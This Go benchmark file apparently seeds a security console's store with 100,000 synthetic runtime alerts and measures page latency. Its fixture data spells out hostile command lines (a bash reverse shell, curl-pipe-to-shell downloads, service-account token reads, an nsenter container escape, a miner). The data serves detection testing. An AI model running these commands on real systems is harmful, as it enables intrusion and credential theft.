package console

import (
	"context"
	"fmt"
	"math/rand"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/oklog/ulid/v2"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/server/store"
	"github.com/vigil-sec/vigil/internal/ship"
)

// BenchmarkPages100k serves each console page from a SQLite store of
// 100,000 alerts and reports the server time of a request (the handler:
// authentication, store queries and rendering) as p50 and p99 over many
// requests of each page, with varying filters and ids:
//
//	go test -run '^$' -bench Pages100k -benchtime 3x ./internal/console/
//
// The alerts go in once per schema version through store.Ingest, in
// batches of 500 as sensors send them, and the file is kept under
// pagesCacheDir; only the first run pays for seeding.
func BenchmarkPages100k(b *testing.B) {
	st := openPagesStore(b)
	ctx := context.Background()
	reader, err := st.CreateToken(ctx, "bench-reader", store.RoleReader)
	if err != nil {
		b.Fatal(err)
	}
	w := newPagesWorld()
	c, err := New(Config{Store: st, Now: func() time.Time { return pagesEnd },
		Recommendations: func(context.Context) ([]Recommendation, error) { return w.recommendations(), nil }})
	if err != nil {
		b.Fatal(err)
	}
	h := c.Handler()
	serve := func(b *testing.B, target string, header ...string) *httptest.ResponseRecorder {
		req := httptest.NewRequest(http.MethodGet, target, nil)
		req.AddCookie(&http.Cookie{Name: cookieName, Value: reader})
		for i := 0; i+1 < len(header); i += 2 {
			req.Header.Set(header[i], header[i+1])
		}
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		if rec.Code != http.StatusOK {
			b.Fatalf("GET %s: status %d:\n%s", target, rec.Code, rec.Body)
		}
		return rec
	}

	// What the pages ask for: alert and incident ids from the store, and
	// the second pages as the first pages link to them.
	var alertIDs []string
	for _, f := range []store.AlertFilter{{Limit: 200}, {Limit: 200, Sort: "first_seen"}, {Limit: 200, Severity: []event.Severity{event.High}},
		{Limit: 200, Until: pagesEnd.Add(-15 * 24 * time.Hour)}, {Limit: 200, Status: []string{event.StatusDismissed}}} {
		p, err := st.ListAlerts(ctx, f)
		if err != nil {
			b.Fatal(err)
		}
		for _, a := range p.Alerts {
			alertIDs = append(alertIDs, a.ID)
		}
	}
	incs, err := st.ListIncidents(ctx, "", 1000)
	if err != nil {
		b.Fatal(err)
	}
	sort.SliceStable(incs, func(i, j int) bool { return incs[i].AlertCount > incs[j].AlertCount })
	var incidentIDs []string
	for _, in := range incs[:min(len(incs), 50)] { // the chains worth reading
		incidentIDs = append(incidentIDs, in.ID)
	}
	if len(alertIDs) == 0 || len(incidentIDs) == 0 {
		b.Fatalf("%d alerts, %d incidents to show", len(alertIDs), len(incidentIDs))
	}
	var secondPages []string
	for _, cl := range append([]string{""}, w.clusters...) {
		first := "/alerts"
		if cl != "" {
			first += "?status=active&cluster=" + cl
		}
		next := pageLink(serve(b, first).Body.String(), "next-page")
		if next == "" {
			b.Fatalf("%s has no next page", first)
		}
		secondPages = append(secondPages, next)
	}

	for _, p := range []struct {
		name   string
		target func(r *rand.Rand) string
		header []string
	}{
		{name: "alerts", target: func(*rand.Rand) string { return "/alerts" }},
		{name: "alerts-refresh", header: []string{"HX-Request", "true"}, target: func(*rand.Rand) string { return "/alerts?status=active" }},
		{name: "alerts-severity+status+cluster", target: func(r *rand.Rand) string {
			return "/alerts?severity=high&status=active&cluster=" + w.clusters[r.Intn(len(w.clusters))]
		}},
		{name: "alerts-search", target: func(r *rand.Rand) string {
			return "/alerts?q=" + url.QueryEscape([]string{"miner", "shell", "kworker", "curl", "nothing-matches-this", "variant 4"}[r.Intn(6)])
		}},
		{name: "alerts-page2", target: func(r *rand.Rand) string { return secondPages[r.Intn(len(secondPages))] }},
		{name: "alert", target: func(r *rand.Rand) string { return "/alerts/" + alertIDs[r.Intn(len(alertIDs))] }},
		{name: "incidents", target: func(*rand.Rand) string { return "/incidents" }},
		{name: "incident", target: func(r *rand.Rand) string { return "/incidents/" + incidentIDs[r.Intn(len(incidentIDs))] }},
		{name: "clusters", target: func(*rand.Rand) string { return "/clusters" }},
		{name: "inventory", target: func(*rand.Rand) string { return "/inventory" }},
		{name: "recommendations", target: func(*rand.Rand) string { return "/recommendations" }},
	} {
		b.Run(p.name, func(b *testing.B) {
			r := rand.New(rand.NewSource(7))
			var lat []time.Duration
			var bytes int
			for b.Loop() {
				deadline := time.Now().Add(pagesBudget)
				for i := 0; i < pagesRequests && (i < 5 || time.Now().Before(deadline)); i++ {
					target := p.target(r)
					start := time.Now()
					rec := serve(b, target, p.header...)
					lat = append(lat, time.Since(start))
					bytes += rec.Body.Len()
				}
			}
			sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
			pct := func(p float64) float64 {
				return float64(lat[min(len(lat)-1, int(p*float64(len(lat))))].Microseconds()) / 1000
			}
			b.ReportMetric(float64(len(lat)), "requests")
			b.ReportMetric(pct(0.50), "p50-ms")
			b.ReportMetric(pct(0.99), "p99-ms")
			b.ReportMetric(float64(bytes)/float64(len(lat))/1024, "kB/page")
			b.ReportMetric(0, "ns/op") // per-request figures above are what matters
		})
	}
}

// pagesRequests is how many requests one iteration of a page makes, at
// most: it stops after pagesBudget (and at least 5 requests).
const (
	pagesRequests = 100
	pagesBudget   = 2 * time.Second
)

const (
	// pagesCacheDir holds the seeded store between runs.
	pagesCacheDir = "/var/cache/vigil-bench"
	// pagesAlerts is how many alerts the store holds.
	pagesAlerts = 100_000
	// pagesBatch is how many alerts one ingested batch carries.
	pagesBatch = 500
)

var (
	pagesEnd   = time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	pagesSpan  = 30 * 24 * time.Hour
	pagesStart = pagesEnd.Add(-pagesSpan)
)

// openPagesStore opens the cached store of pagesAlerts alerts, seeding it
// first when the cache has none for this schema.
func openPagesStore(b *testing.B) *store.Store {
	b.Helper()
	if err := os.MkdirAll(pagesCacheDir, 0o755); err != nil {
		b.Fatal(err)
	}
	name := "console-100k-" + store.SchemaVersion() + ".db"
	// Files of other schema versions would only take space.
	if old, _ := filepath.Glob(filepath.Join(pagesCacheDir, "console-100k-*")); len(old) > 0 {
		for _, f := range old {
			if !strings.HasPrefix(filepath.Base(f), name) {
				os.Remove(f)
			}
		}
	}
	file := filepath.Join(pagesCacheDir, name)
	if _, err := os.Stat(file); err != nil {
		tmp := fmt.Sprintf("%s.seeding-%d", file, os.Getpid())
		start := time.Now()
		seedPages(b, tmp)
		if err := os.Rename(tmp, file); err != nil {
			b.Fatal(err)
		}
		for _, f := range []string{tmp + "-wal", tmp + "-shm"} {
			os.Remove(f)
		}
		d := time.Since(start)
		b.Logf("seeded %d alerts through Ingest into %s in %v (%.0f alerts/s)", pagesAlerts, file, d.Round(time.Millisecond),
			pagesAlerts/d.Seconds())
	}
	st, err := store.Open(context.Background(), "sqlite://"+file)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { st.Close() })
	counts, err := st.CountAlerts(context.Background(), store.AlertFilter{})
	if err != nil {
		b.Fatal(err)
	}
	if n := counts[event.High] + counts[event.Medium] + counts[event.Low] + counts[event.Informational]; n != pagesAlerts {
		b.Fatalf("%s holds %d alerts, want %d: remove it to seed again", file, n, pagesAlerts)
	}
	return st
}

// seedPages stores pagesAlerts alerts into a new SQLite file through
// store.Ingest, in batches of pagesBatch per cluster in time order, with
// each cluster's inventory.
func seedPages(b *testing.B, file string) {
	b.Helper()
	for _, f := range []string{file, file + "-wal", file + "-shm"} {
		os.Remove(f)
	}
	ctx := context.Background()
	st, err := store.Open(ctx, "sqlite://"+file)
	if err != nil {
		b.Fatal(err)
	}
	defer st.Close()
	w := newPagesWorld()
	ids := make([]string, len(w.clusters))
	for i, name := range w.clusters {
		c, _, err := st.CreateCluster(ctx, name)
		if err != nil {
			b.Fatal(err)
		}
		ids[i] = c.ID
	}
	ingest := func(c int, bt *ship.Batch, now time.Time) {
		bt.BatchID = ulid.MustNew(ulid.Timestamp(now), w.r).String()
		bt.SentAt = now
		if _, err := st.Ingest(ctx, ids[c], bt, now); err != nil {
			b.Fatal(err)
		}
	}
	for c := range w.clusters {
		ingest(c, &ship.Batch{Node: w.node(c, 0), Component: "agent", Inventory: w.inventory(c)}, pagesStart)
	}
	pending := make([][]event.Alert, len(w.clusters))
	flush := func(c int) {
		alerts := pending[c]
		if len(alerts) == 0 {
			return
		}
		last := alerts[len(alerts)-1]
		now := last.FirstSeen.Add(time.Second)
		bt := &ship.Batch{Node: last.Node, Component: "sensor", Alerts: alerts}
		if last.Node != "" {
			bt.Health = []ship.Health{{Node: last.Node, Component: "sensor", State: "installed", At: now,
				Health: &event.Health{Mode: "ebpf", EventsTotal: uint64(w.r.Intn(1e7)), DroppedTotal: uint64(w.r.Intn(3) / 2 * w.r.Intn(500))}}}
		}
		ingest(c, bt, now)
		pending[c] = nil
	}
	for _, a := range w.alerts(pagesAlerts) {
		c := w.clusterOf[a.Cluster]
		pending[c] = append(pending[c], a)
		if len(pending[c]) == pagesBatch {
			flush(c)
		}
	}
	for c := range pending {
		flush(c)
	}
}

// pagesWorld makes a realistic fleet and its alerts deterministically:
// four clusters of 25 nodes (one node per cluster runs no sensor), 160
// workloads in 40 namespaces (Zipf: a few namespaces hold most), each with
// 1 to 8 pods. Alerts come in stories about one pod (93%), node (5%) or
// Kubernetes user (2%): a chain of a few alerts minutes apart, now and
// then a noisy one of hundreds. 60 rules follow a Zipf distribution, each
// with one severity; 30% of alerts are aggregated (count above 1); 80% are
// active, 15% dismissed, 5% resolved.
type pagesWorld struct {
	r         *rand.Rand
	rules     []pagesRule
	ruleZipf  *rand.Zipf
	clusters  []string
	clusterOf map[string]int
	workloads []pagesWorkload
	pods      []pagesPod
}

type pagesRule struct {
	id, title, exe string
	args           []string
	sev            event.Severity
	k8s            bool // an audit-log rule about a user, not a process
}

type pagesWorkload struct {
	cluster   int
	namespace string
	name      string // Deployment/ns/name
	image     string
}

type pagesPod struct {
	workload int
	name     string
	node     int
	cid      string
}

func newPagesWorld() *pagesWorld {
	r := rand.New(rand.NewSource(1))
	w := &pagesWorld{r: r, clusters: []string{"prod-eu", "prod-us", "staging", "dev"}, clusterOf: map[string]int{}}
	for i, c := range w.clusters {
		w.clusterOf[c] = i
	}
	kinds := []struct {
		word, exe string
		args      []string
	}{
		{"crypto-miner", "/usr/bin/xmrig", []string{"-o", "pool.example.net:3333", "--threads", "4"}},
		{"reverse-shell", "/bin/bash", []string{"-i", ">&", "/dev/tcp/203.0.113.7/4444", "0>&1"}},
		{"web-shell", "/bin/sh", []string{"-c", "id; uname -a"}},
		{"drift-binary-executed", "/tmp/kworker", []string{"--daemon"}},
		{"suspicious-download", "/usr/bin/curl", []string{"-fsSL", "http://203.0.113.9/x.sh", "-o", "/tmp/x.sh"}},
		{"credential-access", "/bin/cat", []string{"/var/run/secrets/kubernetes.io/serviceaccount/token"}},
		{"attack-tool", "/usr/bin/nc", []string{"-lvp", "4444"}},
		{"container-escape", "/usr/bin/nsenter", []string{"-t", "1", "-m", "-u", "-i", "-n", "-p", "sh"}},
		{"ptrace", "/usr/bin/gdb", []string{"-p", "1"}},
		{"memfd-exec", "/memfd:payload", nil},
		{"shell-spawned", "/bin/sh", []string{"-c", "curl -s http://203.0.113.9/p | sh"}},
		{"k8s-exec-into-pod", "", nil},
	}
	sevs := []event.Severity{event.High, event.Medium, event.Low, event.Informational}
	for i := range 60 {
		k := kinds[i%len(kinds)]
		w.rules = append(w.rules, pagesRule{
			id:    fmt.Sprintf("runtime.%s-%d", k.word, i),
			title: fmt.Sprintf("%s detected (variant %d)", strings.ReplaceAll(k.word, "-", " "), i),
			exe:   k.exe, args: k.args, sev: sevs[(i*7+i/5)%4], k8s: k.exe == "",
		})
	}
	w.ruleZipf = rand.NewZipf(r, 1.3, 2, uint64(len(w.rules)-1))
	var namespaces []string
	for i := range 40 {
		namespaces = append(namespaces, fmt.Sprintf("team-%02d", i))
	}
	nsZipf := rand.NewZipf(r, 1.1, 3, uint64(len(namespaces)-1))
	for i := range 160 {
		ns := namespaces[nsZipf.Uint64()]
		wl := pagesWorkload{cluster: i % len(w.clusters), namespace: ns, name: fmt.Sprintf("Deployment/%s/app-%d", ns, i),
			image: fmt.Sprintf("registry.example.com/%s/app-%d:1.%d", ns, i, i%13)}
		w.workloads = append(w.workloads, wl)
		for range 1 + r.Intn(8) {
			p := len(w.pods)
			w.pods = append(w.pods, pagesPod{workload: i, name: fmt.Sprintf("app-%d-%05x", i, p*7919%0xfffff), node: r.Intn(24),
				cid: fmt.Sprintf("%016x%016x", uint64(p+1)*0x9e3779b97f4a7c15, uint64(p))})
		}
	}
	return w
}

// node is the name of node n of cluster c.
func (w *pagesWorld) node(c, n int) string { return fmt.Sprintf("%s-node-%02d", w.clusters[c], n) }

// inventory is what cluster c's agent reports: nodes, workloads, pods,
// containers and images.
func (w *pagesWorld) inventory(c int) []ship.InventoryItem {
	var out []ship.InventoryItem
	for n := range 25 {
		out = append(out, ship.InventoryItem{Kind: ship.KindNode, Name: w.node(c, n),
			Attrs: map[string]string{"kernel": "6.8.0-1017-aws", "os": "Ubuntu 24.04", "arch": "amd64"}})
	}
	images := map[string]bool{}
	for i, wl := range w.workloads {
		if wl.cluster != c {
			continue
		}
		out = append(out, ship.InventoryItem{Kind: ship.KindWorkload, Namespace: wl.namespace, Name: wl.name, Attrs: map[string]string{"replicas": "3"}})
		if !images[wl.image] {
			images[wl.image] = true
			out = append(out, ship.InventoryItem{Kind: ship.KindImage, Name: wl.image})
		}
		for _, p := range w.pods {
			if p.workload != i {
				continue
			}
			out = append(out,
				ship.InventoryItem{Kind: ship.KindPod, Namespace: wl.namespace, Name: p.name, Node: w.node(c, p.node), Attrs: map[string]string{"phase": "Running"}},
				ship.InventoryItem{Kind: ship.KindContainer, Namespace: wl.namespace, Name: p.name + "/main", Node: w.node(c, p.node),
					Attrs: map[string]string{"id": p.cid, "image": wl.image}})
		}
	}
	return out
}

// alerts makes n alerts, oldest first.
func (w *pagesWorld) alerts(n int) []event.Alert {
	r := w.r
	out := make([]event.Alert, 0, n+300)
	for len(out) < n {
		at := pagesStart.Add(time.Duration(r.Int63n(int64(pagesSpan - 12*time.Hour))))
		size := 1 + int(r.ExpFloat64()*2)
		if r.Intn(200) == 0 {
			size = 100 + r.Intn(200) // a noisy one: a miner restarting all day
		}
		size = min(size, n-len(out))
		var tmpl event.Alert
		switch x := r.Intn(100); {
		case x < 93:
			p := w.pods[r.Intn(len(w.pods))]
			wl := w.workloads[p.workload]
			tmpl = event.Alert{Cluster: w.clusters[wl.cluster], Node: w.node(wl.cluster, p.node), Namespace: wl.namespace, Pod: p.name,
				Container: "main", ContainerID: p.cid, Image: wl.image, Workload: wl.name,
				Labels: map[string]string{"app": wl.name[strings.LastIndex(wl.name, "/")+1:], "team": wl.namespace}}
		case x < 98:
			c := r.Intn(len(w.clusters))
			tmpl = event.Alert{Cluster: w.clusters[c], Node: w.node(c, r.Intn(24))}
		default:
			c := r.Intn(len(w.clusters))
			tmpl = event.Alert{Cluster: w.clusters[c], Namespace: w.workloads[r.Intn(len(w.workloads))].namespace,
				User: &event.User{Name: fmt.Sprintf("user-%d@example.com", r.Intn(30)), Groups: []string{"system:authenticated", "devs"}}}
		}
		for range size {
			out = append(out, w.alertAt(tmpl, at))
			at = at.Add(5*time.Second + time.Duration(r.Int63n(int64(10*time.Minute))))
		}
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].FirstSeen.Before(out[j].FirstSeen) })
	return out[:n]
}

// alertAt is an alert like tmpl (where it happened) raised at at.
func (w *pagesWorld) alertAt(tmpl event.Alert, at time.Time) event.Alert {
	r := w.r
	rule := w.rules[w.ruleZipf.Uint64()]
	a := tmpl
	a.ID = ulid.MustNew(ulid.Timestamp(at), r).String()
	a.Rule, a.Title, a.Severity, a.Source = rule.id, rule.title, rule.sev, "runtime"
	a.Tactic, a.Techniques = "Execution", []string{"T1059", "T1204"}
	a.FirstSeen, a.LastSeen, a.Count = at, at, 1
	if r.Intn(10) < 3 {
		a.LastSeen = at.Add(time.Duration(r.Int63n(int64(2 * time.Hour))))
		a.Count = uint64(2 + r.Intn(500))
	}
	switch x := r.Intn(100); {
	case x < 15:
		a.Status = event.StatusDismissed
	case x < 20:
		a.Status = event.StatusResolved
	default:
		a.Status = event.StatusActive
	}
	if a.User != nil || rule.k8s {
		a.Source = "k8s-audit"
		if a.User == nil {
			a.User = &event.User{Name: "system:serviceaccount:" + a.Namespace + ":default"}
		}
	}
	if !rule.k8s {
		exe := rule.exe
		if strings.HasPrefix(exe, "/tmp/") {
			exe = fmt.Sprintf("%s-%x", exe, r.Intn(4096)) // dropped binaries have their own names
		}
		pid := uint32(1000 + r.Intn(30000))
		shell := event.Lineage{Pid: pid - 1, Exe: "/bin/sh", Args: []string{"sh", "-c", exe + " " + strings.Join(rule.args, " ")}}
		a.Process = &event.Process{Pid: pid, Ppid: shell.Pid, UID: 1000, GID: 1000, EUID: 1000, Exe: exe,
			Args: append([]string{exe}, rule.args...), Cwd: "/tmp", Drift: strings.HasPrefix(exe, "/tmp/"), Memfd: strings.HasPrefix(exe, "/memfd:"),
			Parent:   &shell,
			Ancestry: []event.Lineage{shell, {Pid: 1, Exe: "/usr/local/bin/entrypoint", Args: []string{"/usr/local/bin/entrypoint", "--serve"}}}}
	}
	a.Evidence = map[string]any{"rule": rule.id, "network.dst": "203.0.113.7:3333", "count": a.Count}
	a.Description = "Activity matching " + rule.title + " was seen; see the process and evidence for what matched."
	a.Remediation = "Check the workload's image and recent changes; isolate the pod if the activity is not expected."
	return a
}

// recommendations is what the Recommendations page shows: 20 checks, a
// few dozen failing resources each.
func (w *pagesWorld) recommendations() []Recommendation {
	modes := []string{"audit", "deny", "disabled"}
	sevs := []event.Severity{event.High, event.Medium, event.Low}
	var out []Recommendation
	for i := range 20 {
		rec := Recommendation{ID: fmt.Sprintf("wp-%02d", i), Title: fmt.Sprintf("Workload check %d should pass", i), Mode: modes[i%3],
			Severity: sevs[i%3], Healthy: 100 + i, Unhealthy: 3 * i, Parameters: []string{"excludedNamespaces", "registries"}}
		for j := range 3 * i {
			rec.Unhealthies = append(rec.Unhealthies, w.workloads[(i*31+j)%len(w.workloads)].name)
		}
		out = append(out, rec)
	}
	return out
}
